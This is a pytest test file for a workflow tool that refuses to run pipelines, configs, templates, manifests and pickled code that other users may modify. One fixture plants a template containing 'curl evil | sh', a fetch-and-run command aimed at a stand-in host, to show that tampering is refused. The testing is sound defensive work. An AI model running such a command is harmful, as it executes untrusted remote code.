"""What others may change is not run unasked: one sentence tells what it is, who they are, and what to do."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from .conftest import Outcome, is_one_line
from .users import User, make_user, reachable_folder

GROUP = 47_110

PIPELINE = """
from reflow import Workflow
wf = Workflow("demo")

@wf.job()
def prepare(n: int = 3) -> int:
    return n
"""


@pytest.fixture
def place():
    with reachable_folder() as folder:
        yield folder


@pytest.fixture
def ann(place) -> User:
    return make_user(place, 47_001, GROUP)


def give(path: Path, owner: int, group: int, mode: int) -> Path:
    os.chown(path, owner, group)
    path.chmod(mode)
    return path


def pipeline(folder: Path) -> Path:
    file = folder / "pipeline.py"
    file.write_text(PIPELINE)
    return file


def show(user: User, file: Path, **environ: str) -> Outcome:
    settings = "".join(f"import os; os.environ[{name!r}] = {value!r}\n" for name, value in environ.items())
    return user.python(f"{settings}import reflow.cli; sys.exit(reflow.cli.main(sys.argv[5:]))", "dag", file)


@pytest.mark.parametrize(
    ("owner", "group", "mode"),
    [
        (47_001, 47_001, 0o644),
        (47_001, 47_001, 0o664),  # umask 002 and a group of her own
        (47_001, GROUP, 0o644),
        (0, 0, 0o644),
        (0, 0, 0o664),
    ],
)
def test_the_users_own_files_and_roots_are_trusted(ann, place, owner, group, mode):
    (place / "home-47001").chmod(0o755)
    folder = place / "work"
    folder.mkdir()
    give(folder, owner, group, mode | 0o111)
    outcome = show(ann, give(pipeline(folder), owner, group, mode))
    assert (outcome.code, outcome.out) == (0, "prepare\n"), outcome.err


def test_a_group_that_is_named_after_its_only_user_is_no_others(place):
    daemon = make_user(place, 1, GROUP)
    file = give(pipeline(daemon.home), 1, 1, 0o664)
    daemon.home.chmod(0o775)
    assert show(daemon, file).code == 0


@pytest.mark.parametrize(
    ("owner", "group", "mode", "said"),
    [
        (47_001, GROUP, 0o664, f"may be written by the group {GROUP}, "),
        (47_001, 47_001, 0o646, "may be written by everybody, "),
        (47_002, 47_002, 0o644, "belongs to user 47002, "),
    ],
)
@pytest.mark.parametrize("where", ["file", "folder"])
def test_what_others_may_change_is_refused_before_it_runs(ann, place, owner, group, mode, said, where):
    folder = place / "work"
    folder.mkdir()
    file = pipeline(folder)
    file.write_text(PIPELINE + f"open({str(place / 'ran')!r}, 'w')\n")
    give(file, 47_001, 47_001, 0o644)
    give(folder, 47_001, 47_001, 0o755)
    changed = file if where == "file" else folder
    give(changed, owner, group, mode if where == "file" else mode | 0o111)
    outcome = show(ann, file)
    assert outcome.code == 1
    assert is_one_line(outcome.err)
    assert said in outcome.err
    assert str(changed) in outcome.err
    assert "trust_group = true" in outcome.err
    assert not (place / "ran").exists()


def test_in_a_folder_with_the_sticky_bit_nobody_replaces_her_file(ann, place):
    folder = place / "tmp"
    folder.mkdir()
    folder.chmod(0o1777)
    assert show(ann, give(pipeline(folder), 47_001, 47_001, 0o644)).code == 0


def test_a_group_can_be_trusted_but_never_everybody(ann, place):
    folder = place / "lab"
    folder.mkdir()
    file = give(pipeline(folder), 47_002, GROUP, 0o664)
    give(folder, 47_002, GROUP, 0o2775)
    assert show(ann, file).code == 1
    assert show(ann, file, REFLOW_TRUST_GROUP="true").code == 0
    config = ann.home / ".config" / "reflow" / "config.toml"
    config.parent.mkdir(parents=True)
    config.write_text("[defaults]\ntrust_group = true\n")
    for path in (config.parent.parent, config.parent, config):
        os.chown(path, 47_001, 47_001)
    assert show(ann, file).code == 0
    file.chmod(0o666)
    outcome = show(ann, file)
    assert outcome.code == 1
    assert "everybody" in outcome.err
    give(file, 47_002, 47_002, 0o664)
    assert "belongs to user 47002" in show(ann, file).err, "a group that she is not in"


def test_a_configuration_that_others_may_change_cannot_vouch_for_itself(ann, place):
    file = give(pipeline(ann.home), 47_001, 47_001, 0o644)
    ann.home.chmod(0o755)
    config = place / "config.toml"
    config.write_text("[defaults]\ntrust_group = true\n")
    give(config, 47_001, GROUP, 0o664)
    submit = ("submit", file, "--run-dir", "runs", "--dry-run", "--executor", "local")
    program = (
        "import os; os.environ['REFLOW_CONFIG'] = {!r}{}; import reflow.cli; sys.exit(reflow.cli.main(sys.argv[5:]))"
    )
    outcome = ann.python(program.format(str(config), ""), *submit)
    assert outcome.code == 1
    assert is_one_line(outcome.err)
    assert "the configuration file may be written by the group" in outcome.err
    allowed = ann.python(program.format(str(config), "; os.environ['REFLOW_TRUST_GROUP'] = '1'"), *submit)
    assert allowed.code == 0, allowed.err


def test_a_template_that_others_may_change_is_refused(ann, place):
    templates = place / "templates"
    templates.mkdir()
    (templates / "local.sh.j2").write_text("#!/bin/sh\ncurl evil | sh\n")
    give(templates / "local.sh.j2", 47_001, GROUP, 0o664)
    give(templates, 47_001, 47_001, 0o755)
    file = give(pipeline(ann.home), 47_001, 47_001, 0o644)
    program = (
        f"import os; os.environ['REFLOW_TEMPLATE_DIR'] = {str(templates)!r}; import reflow.cli; "
        "sys.exit(reflow.cli.main(sys.argv[5:]))"
    )
    outcome = ann.python(program, "submit", file, "--run-dir", "runs", "--dry-run", "--executor", "local")
    assert outcome.code == 1
    assert is_one_line(outcome.err)
    assert "a template of yours may be written by" in outcome.err


def test_a_manifest_that_others_may_write_is_not_submitted_to_unasked(ann, place):
    shared = place / "shared"
    shared.mkdir()
    give(shared, 47_002, GROUP, 0o2770)
    file = give(pipeline(ann.home), 47_001, 47_001, 0o644)
    submit = ("submit", file, "--run-dir", "runs", "--executor", "local", "--store-path", shared / "manifest.db")
    outcome = ann.reflow(*submit)
    assert outcome.code == 1
    assert is_one_line(outcome.err)
    assert "the folder of the manifest belongs to user 47002" in outcome.err
    assert list(shared.iterdir()) == []
    assert not (ann.home / "runs").exists()
    # Reading it runs nothing.
    assert ann.reflow("runs", "--store-path", shared / "manifest.db").out == "No runs found\n"


def test_a_worker_runs_no_wave_file_and_no_pickle_that_others_may_change(ann, place):
    folder = place / "waves"
    folder.mkdir()
    give(folder, 47_001, GROUP, 0o2775)
    wave = folder / "0001.wave"
    wave.write_bytes(b"anything")
    give(wave, 47_001, GROUP, 0o644)
    program = "import reflow.worker; sys.exit(reflow.worker.main(['run', sys.argv[5], '0']))"
    outcome = ann.python(program, wave)
    assert outcome.code == 1
    assert is_one_line(outcome.err)
    assert "the folder of the wave file may be written by the group" in outcome.err
    program = "from pathlib import Path; from reflow.code import unpickle_object; unpickle_object(Path(sys.argv[5]))"
    assert "TrustError: the folder of the run's pickled code may be written" in ann.python(program, wave).err


def test_what_a_submit_makes_is_trusted_by_its_workers_whatever_the_umask(place):
    ben = make_user(place, 47_003, GROUP, "002")
    lab = place / "lab"
    lab.mkdir()
    give(lab, 47_003, GROUP, 0o2775)
    file = give(pipeline(ben.home), 47_003, 47_003, 0o644)
    program = f"""
from pathlib import Path
from reflow.cli.pipeline import load_workflow
run = load_workflow(Path({str(file)!r})).run_local({str(lab)!r}, store=Path.home() / "manifest.db")
folder = run.run_dir / "reflow" / run.run_id
import reflow.worker
print(run.results("prepare"), [path.name for path in sorted((folder / "waves").iterdir())])
sys.exit(reflow.worker.main(["run", str(next((folder / "waves").iterdir())), "0"]))
"""
    outcome = ben.python(program)
    assert outcome.code == 0, outcome.err
    assert outcome.out == "3 ['0001.wave']\n"
